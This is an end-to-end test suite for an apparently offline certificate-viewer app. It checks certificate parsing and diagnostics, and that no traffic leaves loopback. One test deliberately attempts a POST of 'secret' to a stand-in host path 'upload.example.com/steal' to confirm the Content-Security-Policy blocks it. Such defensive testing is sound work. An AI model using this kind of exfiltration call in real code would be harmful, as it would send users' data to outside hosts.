// End-to-end: the release build in Debian's Chromium, served on loopback.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { AppPage } from './app-page.js';
import { serveDist, launchBrowser, offLoopbackTraffic, withTimeout, vectorFacts, vectorInput } from './harness.js';

const TEST_TIMEOUT = 60_000;
let server;
let browser;
let netLog;
let cleanup;

before(async () => {
  server = await serveDist();
  ({ browser, netLog, cleanup } = await launchBrowser());
});

after(async () => {
  await browser?.close();
  server?.stop();
  cleanup?.();
});

/** A fresh page that records console errors, page errors and every request made after load. */
async function openApp() {
  const context = await browser.newContext();
  const page = await context.newPage();
  const problems = [];
  const requestsAfterLoad = [];
  let loaded = false;
  page.on('console', (m) => { if (m.type() === 'error') problems.push(`console: ${m.text()}`); });
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  page.on('request', (r) => { if (loaded) requestsAfterLoad.push(r.url()); });
  const app = new AppPage(page);
  await app.open(server.url);
  loaded = true;
  return { context, page, app, problems, requestsAfterLoad };
}

test('pasting a real certificate shows its subject, validity and fingerprints', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, problems, requestsAfterLoad } = await openApp();
  const facts = vectorFacts('public-isrg-root-x1').certificates[0];
  await app.pasteText(readFileSync(vectorInput('public-isrg-root-x1', 'isrg-root-x1.pem'), 'utf8'));
  const card = app.card(0);
  await card.locator.waitFor({ timeout: 10_000 });
  assert.equal(await card.subject(), facts.subject);
  assert.equal(await card.issuer(), facts.issuer);
  assert.equal(await card.notBefore(), facts.not_before);
  assert.equal(await card.notAfter(), facts.not_after);
  assert.equal(await card.sha256(), facts.sha256);
  assert.equal(await card.sha1(), facts.sha1);
  assert.match(await card.expiry(), /^valid, \d+ days left$/);
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, [], 'no request after load');
  await context.close();
});

test('a messy multi-block paste and a DER file both become cards', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, problems, requestsAfterLoad } = await openApp();
  const messy = vectorFacts('crlf-bom-indented-stray-text').certificates;
  await app.pasteText(readFileSync(vectorInput('crlf-bom-indented-stray-text', 'from-pkcs12.txt'), 'utf8'));
  await app.cards.nth(1).waitFor({ timeout: 10_000 });
  assert.equal(await app.card(0).sha256(), messy[0].sha256);
  assert.equal(await app.card(1).subject(), messy[1].subject);
  assert.equal(await app.diagnostic('text-outside-blocks').count(), 1);

  const der = vectorFacts('der-certificate').certificates[0];
  await app.filePick.setInputFiles(vectorInput('der-certificate', 'leaf.der'));
  await app.cards.nth(2).waitFor({ timeout: 10_000 });
  assert.equal(await app.card(2).sha256(), der.sha256);
  assert.deepEqual(problems, []);
  assert.deepEqual(requestsAfterLoad, []);
  await context.close();
});

test('malformed input yields a clear diagnostic and keeps the text', { timeout: TEST_TIMEOUT }, async () => {
  const { context, app, problems } = await openApp();
  const cut = readFileSync(vectorInput('malformed-missing-end', 'cut.pem'), 'utf8');
  await app.pasteText(cut);
  const diagnostic = app.diagnostic('pem-missing-end');
  await diagnostic.waitFor({ timeout: 10_000 });
  assert.match(await diagnostic.textContent(), /block 1.*line 1/);
  assert.match(await diagnostic.textContent(), /copy it again/);
  assert.equal(await app.paste.inputValue(), cut);
  await app.pasteText('my certificate is attached');
  await app.diagnostic('no-pem-or-der').waitFor({ timeout: 10_000 });
  assert.equal(await app.cards.count(), 0);
  assert.deepEqual(problems, []);
  await context.close();
});

test('the Content-Security-Policy refuses a fetch to another origin', { timeout: TEST_TIMEOUT }, async () => {
  const { context, page } = await openApp();
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let error = null;
    try {
      await fetch('https://upload.example.com/steal', { method: 'POST', body: 'secret' });
    } catch (e) {
      error = String(e);
    }
    await new Promise((r) => setTimeout(r, 100));
    return { error, violations };
  });
  assert.match(outcome.error ?? '', /TypeError/);
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome.violations));
  await context.close();
});

test('Chromium\'s net log shows no DNS query and no connection off loopback', { timeout: TEST_TIMEOUT }, async () => {
  // Runs last: closing the browser flushes the net log of every test above.
  await withTimeout(browser.close(), 20_000, 'closing Chromium');
  browser = null;
  const traffic = offLoopbackTraffic(netLog);
  assert.ok(traffic.events > 100, `the net log has events (${traffic.events})`);
  assert.deepEqual(traffic.dns, [], 'no DNS query');
  assert.deepEqual(traffic.connections, [], 'no connection off loopback');
  assert.deepEqual(traffic.pageRequests, [], 'the page asked for nothing off loopback');
  // The CSP test's fetch must have been stopped before it became a request at all.
  assert.ok(!traffic.browserRequests.some((r) => r.includes('upload.example.com')), 'the refused fetch never left');
});
